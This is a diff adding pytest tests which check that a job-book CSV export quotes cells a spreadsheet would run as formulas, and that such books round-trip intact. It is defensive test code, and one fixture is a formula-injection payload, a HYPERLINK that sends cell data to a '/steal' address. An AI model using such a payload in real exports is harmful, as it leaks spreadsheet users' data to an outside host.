@@ -1,3 +1,5 @@
+import csv
+import io
 import json
 
 import pytest
@@ -29,6 +31,41 @@ def test_json_export_then_import_gives_an_equal_book(penn_book, allegheny_book, 
 def test_csv_export_then_import_gives_an_equal_book(penn_book, allegheny_book, keystone_admin):
     source = selectors.published_version(penn_book)
     exported = interchange.export_csv(services.version_content(source))
+    draft = services.version_start_draft(job_book=allegheny_book, by=keystone_admin)
+    services.version_replace_content(version=draft, content=interchange.parse_book_file(exported.encode(), "a.csv"))
+    assert services.version_content(draft) == services.version_content(source)
+
+
+FORMULAS = ['=HYPERLINK("http://203.0.113.9/steal?d="&A1,"Open")', "+1 Lift safely", "-40 °F storage",
+            "@SUM(A1:A9)", "\tIndented", "\rReturned"]
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_are_exported_as_text():
+    content = [{
+        "key": "-k1", "name": FORMULAS[0], "description": FORMULAS[3], "target_hours": 100, "minimum_hours": None,
+        "skills": [{"key": "", "name": name, "description": ""} for name in FORMULAS[1:]],
+    }]
+    rows = list(csv.reader(io.StringIO(interchange.export_csv(content))))[1:]
+    cells = [cell for row in rows for cell in row if cell]
+    dangerous = [cell for cell in cells if cell.startswith(interchange.FORMULA_START)]
+    assert dangerous == []
+    assert rows[0][0] == "'" + FORMULAS[0] and rows[0][4] == "'@SUM(A1:A9)" and rows[0][6] == "'-k1"
+    assert [row[3] for row in rows] == ["'" + name for name in FORMULAS[1:]]
+    assert rows[0][1] == "100"  # numbers are numbers
+
+
+def test_a_book_with_formula_like_names_comes_back_unchanged_from_its_csv(penn_book, allegheny_book, keystone_admin):
+    source = services.version_start_draft(job_book=penn_book, by=keystone_admin)
+    services.version_replace_content(version=source, content=[
+        {"key": "-lead", "name": FORMULAS[0], "description": "=1+1 is two", "target_hours": 100,
+         "minimum_hours": 50, "skills": [
+             {"key": "", "name": "+ Add oil", "description": "@ the press"},
+             {"key": "", "name": "-40 °F storage", "description": ""},
+             {"key": "", "name": "'Tis the season: a quote of the author's own", "description": "'=not ours"},
+         ]},
+    ])
+    exported = interchange.export_csv(services.version_content(source))
+    assert "\n=" not in exported and ",=" not in exported and ",+" not in exported and ",@" not in exported
     draft = services.version_start_draft(job_book=allegheny_book, by=keystone_admin)
     services.version_replace_content(version=draft, content=interchange.parse_book_file(exported.encode(), "a.csv"))
     assert services.version_content(draft) == services.version_content(source)
